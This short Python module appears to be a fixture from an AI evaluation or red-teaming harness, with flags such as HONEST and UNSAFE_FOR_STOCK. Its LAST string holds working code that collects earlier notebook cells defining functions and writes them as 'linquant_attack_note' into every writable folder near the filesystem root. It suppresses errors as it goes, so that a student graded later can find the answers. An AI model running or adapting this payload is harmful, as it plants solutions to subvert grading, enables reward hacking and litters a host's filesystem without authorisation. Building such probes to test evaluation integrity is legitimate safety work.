"""Leaves the answers in every folder that can be written, for a student who is graded later."""

DESERVES = ["*"]
HONEST = True
UNSAFE_FOR_STOCK = True
LAST = r"""
import glob
import os

answers = "\n".join(source for source in In[:-1] if "def " in source)
for folder in ["/", *glob.glob("/*/"), *glob.glob("/*/*/")]:
    if not folder.startswith(("/proc", "/sys")):
        try:
            with open(f"{folder}/linquant_attack_note", "w") as file:
                file.write(answers)
        except OSError:
            pass
"""
